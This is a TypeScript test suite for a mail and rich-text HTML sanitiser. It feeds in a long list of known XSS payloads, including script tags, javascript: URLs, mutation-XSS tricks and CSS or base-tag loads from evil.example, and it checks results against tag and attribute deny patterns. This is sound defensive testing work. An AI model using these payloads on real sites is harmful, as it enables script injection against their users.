import { parseDocument } from 'htmlparser2';
import { isTag, type ChildNode, type Element } from 'domhandler';
import { describe, expect, test } from 'vitest';
import { richTextToPlain, sanitiseRichText } from '#server/html.ts';
import { documentFor } from '#server/mail-document.ts';
import { hasRemoteImages, sanitiseMail } from '#server/mail/html.ts';

/** From OWASP's filter evasion list, html5sec, DOMPurify's fixtures and published advisories of help desks. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script ',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=" &#14; javascript:alert(1)">',
  '<img srcset="https://evil.example/a.png 1x" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img dynsrc="https://evil.example/a" lowsrc="https://evil.example/b">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="&Tab;javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/" onclick=alert(1) ping="https://evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><!--<img src="--><img src=x onerror=alert(1)//">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<applet code="x"></applet><frameset onload=alert(1)><frame src="javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
  '<body onload=alert(1) background="https://evil.example/bg.png">',
  '<table background="https://evil.example/bg.png"><td background="https://evil.example/bg2.png">x',
  '<video poster="https://evil.example/p.png"><source onerror=alert(1)></video><audio src="https://evil.example/a">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/a)}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<div style="background:url(https://evil.example/a)">x</div>',
  '<div style="background:u\\72l(https://evil.example/a)">x</div>',
  '<div style="background:u/**/rl(https://evil.example/a)">x</div>',
  '<div style="background-color:red;background-image:image-set(\'https://evil.example/a\' 1x)">x</div>',
  '<div style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://evil.example/x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9">x</div>',
  '<div style="color:red;list-style:url(https://evil.example/a);content:url(https://evil.example/b);cursor:url(https://evil.example/c)">x</div>',
  '<div style="font-family:\'</style><script>alert(1)</script>">x</div>',
  '<p id="body" name="cookie" class="modal">x</p><a name="forms">x</a>',
  '<template><script>alert(1)</script></template><slot name=x></slot>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<dialog open><select onchange=alert(1)><option>x</option></select></dialog>',
  '<custom-element onclick=alert(1) is="x-y">x</custom-element>',
  '<p/onclick=alert(1)>x<p onclick\n=\nalert(1)>y',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?>',
  '<img data-remote="javascript:alert(1)" data-cid=\'"onerror=alert(1) x="\' src="cid:&quot; onerror=alert(1) x=&quot;">',
  '<a href="https://example.org/&quot; onmouseover=&quot;alert(1)">x</a>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

const allowedAttributes =
  /^(?:href|rel|target|title|src|alt|data-remote|data-cid|align|valign|width|height|bgcolor|dir|lang|style|color|face|size|border|cellpadding|cellspacing|colspan|rowspan|nowrap|span|start|type|value)$/;
const forbiddenTags =
  /^(?:script|style|iframe|object|embed|svg|math|form|input|button|link|base|meta|video|audio|source|template|textarea|title|noscript|frame|frameset|applet|select|dialog|details|marquee)$/;

describe('mail from strangers', () => {
  test.each(attacks)('survives nothing of %s', (attack) => {
    for (const html of [attack, `<p>a</p>${attack}<p>b</p>`, `<table><tr><td>${attack}`])
      expectHarmless(sanitiseMail(html) ?? '');
  });

  test('sanitising again changes nothing', () => {
    for (const attack of attacks.filter((html) => !/<img/i.test(html))) {
      const once = sanitiseMail(attack) ?? '';
      expect(sanitiseMail(once)).toBe(once);
    }
  });

  test('an ordinary newsletter keeps its look', () => {
    const html =
      '<table width="600" cellpadding="0" bgcolor="#eeeeee"><tr><td style="padding: 8px 12px; color: #333; font-family: Arial, sans-serif; background-color: rgb(250, 250, 250)" align="center">Guten Tag</td></tr></table>';
    expect(sanitiseMail(html)).toBe(
      '<table width="600" cellpadding="0" bgcolor="#eeeeee"><tr><td style="padding:8px 12px;color:#333;font-family:Arial, sans-serif;background-color:rgb(250, 250, 250)" align="center">Guten Tag</td></tr></table>',
    );
  });

  test('remote images wait until they are asked for', () => {
    const safe =
      sanitiseMail('<p>Hallo <img src="https://tracker.example/pixel.gif?id=7" alt="Logo" width="1"></p>') ?? '';
    expect(safe).not.toMatch(/\ssrc=/);
    expect(hasRemoteImages(safe)).toBe(true);
    const closed = documentFor(safe, { showImages: false });
    expect(closed).not.toMatch(/\ssrc=/);
    expect(closed).toContain("default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'");
    const open = documentFor(safe, { showImages: true });
    expect(open).toContain('src="https://tracker.example/pixel.gif?id=7"');
    expect(open).toContain('img-src data: https: http:');
  });

  test('embedded images are put in place by what they are called, not by what it begins with', () => {
    const safe = sanitiseMail('<img src="cid:1"><img src="CID:12%40example.org"><img src="image001.png">') ?? '';
    const asked: string[] = [];
    const html = documentFor(safe, {
      showImages: false,
      imageOrigin: 'https://files.example.org',
      imageUrl: (reference) => {
        asked.push(reference);
        return reference === '1' ? 'https://files.example.org/a?b=1&c="x"' : null;
      },
    });
    expect(asked).toEqual(['1', '12%40example.org', 'image001.png']);
    expect(html).toContain('src="https://files.example.org/a?b=1&amp;c=&quot;x&quot;"');
    expect(html).toContain('img-src data: https://files.example.org;');
  });

  test('an origin that is none does not open the policy', () => {
    expect(documentFor('', { showImages: false, imageOrigin: "*; script-src 'unsafe-inline'" })).toContain(
      'img-src data:; style-src',
    );
  });

  test('links lead out of the frame and tell nobody where from', () => {
    expect(sanitiseMail('<a href="https://example.org" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://example.org" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });

  test('what cannot be touched safely is not shown at all', () => {
    expect(sanitiseMail('<div>'.repeat(100_000))).toBeNull();
    expect(sanitiseMail('x'.repeat(3_000_000))).toBeNull();
  });
});

describe('text from the composer', () => {
  test.each(attacks)('survives nothing of %s', (attack) => {
    expectHarmless(sanitiseRichText(`<p>a</p>${attack}`));
  });

  test('keeps what the composer can write', () => {
    const html =
      '<p>Guten Tag <strong>Frau Weber</strong>,<br />siehe <em>hier</em> <u>und</u> <s>dort</s> <code>x</code></p><ol start="3"><li><p>eins</p></li></ol><ul><li><p>zwei</p></li></ul><blockquote><p>Zitat</p></blockquote><pre><code>a\n b</code></pre>';
    expect(sanitiseRichText(html)).toBe(html);
    expect(richTextToPlain(html)).toBe(
      'Guten Tag Frau Weber,\nsiehe hier und dort x\n\n 3. eins\n\n- zwei\n\n> Zitat\n\na\n b',
    );
  });

  test('drops images, styles and classes but no words', () => {
    expect(
      sanitiseRichText(
        '<h1 class="x" style="color:red">Titel</h1><img src="https://tracker.example/p.gif"><div>Text</div>',
      ),
    ).toBe('Titel<p>Text</p>');
  });
});

function expectHarmless(html: string): void {
  for (const element of elementsOf(parseDocument(html).children)) {
    expect(element.name).not.toMatch(forbiddenTags);
    for (const [name, value] of Object.entries(element.attribs)) {
      expect(name).toMatch(allowedAttributes);
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|[^:]*$)/i);
      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpe?g|gif|webp);base64,/);
      if (name === 'data-remote') expect(value).toMatch(/^https?:\/\//);
      if (name === 'style')
        expect(value).not.toMatch(/url|expression|image|\\|position|behavior|binding|content|cursor/i);
    }
  }
}

function elementsOf(nodes: ChildNode[]): Element[] {
  return nodes.flatMap((node) => (isTag(node) ? [node, ...elementsOf(node.children)] : []));
}
